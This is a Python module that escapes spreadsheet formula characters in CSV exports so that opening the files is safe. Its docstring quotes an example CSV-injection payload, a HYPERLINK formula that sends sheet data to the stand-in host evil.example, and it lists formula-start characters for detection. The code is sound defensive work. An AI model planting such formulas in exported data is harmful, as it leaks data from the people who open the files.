"""CSV files the CLI writes for operators to open in a spreadsheet (the rows of a run to act on, for a ticket).

The cells hold what manifests and users gave (identifiers, references), and a spreadsheet runs a cell that starts with
`=`, `+`, `-` or `@` as a formula: `=HYPERLINK("https://evil.example/?"&A2, "open")` in a username would send the
sheet's data away when an operator clicks it, and DDE payloads can start programs. So, as OWASP's "CSV Injection"
advises, such a cell (and one starting with a tab or a carriage return, which some spreadsheets skip before looking
for the formula sign) is written with a leading single quote, which spreadsheets read as "this is text" and do not
show. A value that starts with `-` or `+` (a negative number, a phone number) gets the quote too: for a file opened by
people, a quote too many is the safe side. Plain UTF-8 without a byte-order mark, RFC 4180 (CRLF, quotes doubled).
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable, Sequence
from typing import Final

# OWASP, "CSV Injection": the characters a spreadsheet may read as the start of a formula.
FORMULA_STARTS: Final = ("=", "+", "-", "@", "\t", "\r")


def csv_text(header: Sequence[str], rows: Iterable[Sequence[object]]) -> str:
    """`header` and `rows` as RFC 4180 CSV (CRLF line ends), every cell safe to open in a spreadsheet: None is an
    empty cell, anything else its str(), with a single quote before a formula's first character."""
    out = io.StringIO(newline="")
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([spreadsheet_cell(cell) for cell in header])
    writer.writerows([spreadsheet_cell(cell) for cell in row] for row in rows)
    return out.getvalue()


def spreadsheet_cell(value: object) -> str:
    """One cell's text: empty for None, and a formula neutralised by a leading single quote."""
    if value is None:
        return ""
    text = str(value)
    return f"'{text}" if text.startswith(FORMULA_STARTS) else text
